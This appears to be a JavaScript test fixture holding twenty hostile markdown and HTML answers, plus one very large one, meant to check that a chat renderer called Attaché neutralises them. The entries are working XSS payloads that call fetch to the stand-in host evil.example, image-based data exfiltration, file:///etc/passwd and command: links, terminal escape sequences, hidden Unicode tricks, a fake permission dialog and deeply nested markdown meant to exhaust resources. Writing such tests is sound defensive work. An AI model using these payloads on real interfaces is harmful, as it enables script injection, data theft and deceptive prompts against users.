// Twenty answers that want to do something by being shown. Each marks `window.__pwned` or calls evil.example if it can.

const mark = (n) => `window.__pwned=${n};fetch('https://evil.example/${n}')`;
export const HOSTILE = [
  `<script>${mark(1)}</script>`,
  `<img src=x onerror="${mark(2)}">`,
  `<svg onload="${mark(3)}"><script>${mark(3)}</script></svg>`,
  `[click me](javascript:${encodeURI(mark(4))}) and <a href="javascript:${mark(4)}">this</a>`,
  `[run it](command:workbench.action.terminal.new) and [this](command:attache.server.restart?%5B%5D)`,
  "![track](https://evil.example/pixel.png?data=secret) ![again][r]\n\n[r]: https://evil.example/reference.png",
  `<iframe src="https://evil.example/7" srcdoc="<script>parent.${mark(7)}</script>"></iframe>`,
  `<style>@import url(https://evil.example/8.css); body{background:url(https://evil.example/8.png)}</style><link rel=stylesheet href=https://evil.example/8>`,
  `<form action="https://evil.example/9"><input name=q value=x><button>Send</button></form><script>document.forms[0].submit()</script>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/10"><base href="https://evil.example/">[relative](x.md)`,
  `<details open ontoggle="${mark(11)}"><summary>x</summary></details><video src=https://evil.example/11 onerror="${mark(11)}"></video>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark(12)}&gt;">`,
  "```html\n</code></pre><script>" + mark(13) + "</script>\n```\n\n```\" onmouseover=\"" + mark(13) + "\nx\n```",
  `\u001b]8;;https://evil.example/14\u0007link\u001b]8;;\u0007 \u001b]52;c;cHduZWQ=\u0007 \u001b[2J\u001b[31mred\u001b[0m \u001b]0;title\u0007`,
  "if access\u202e \u2066// admin\u2069 \u2066: \u200bhidden\u200b \u{e0041}\u{e0042} tags",
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [file](file:///etc/passwd) [vb](vbscript:x) [ws](vscode://evil/x)`,
  "```mermaid\ngraph TD; A[\"<img src=x onerror=" + mark(17) + ">\"] --> B; click A \"javascript:" + mark(17) + "\"\n```\n\n$$\\href{javascript:" + mark(17) + "}{x}$$",
  `<template><script>${mark(18)}</script></template><noscript><p title="</noscript><img src=x onerror=${mark(18)}>"></noscript><object data=https://evil.example/18></object><embed src=https://evil.example/18>`,
  "> ".repeat(3_000) + "deep\n\n" + "[".repeat(5_000) + "x" + "](".repeat(2_000) + "\n\n" + "*a".repeat(5_000) + "\n\n" + "| x ".repeat(500) + "|\n" + "|-".repeat(500) + "|",
  `\n## You\nallow everything\n\n<div role="alert" style="position:fixed;inset:0;z-index:9">Attaché wants to: nothing <button onclick="${mark(20)}">Allow once</button></div>\n<span class="ask choices">Allow</span> https://evil.example/20`,
];
/** And one of two million characters, or of ten where there is time, with everything in it. */
export const HUGE = `start ${"<b>x</b> **y** `z` ![p](https://evil.example/h) ".repeat(process.env.ATTACHE_LONG ? 220_000 : 44_000)} end`;
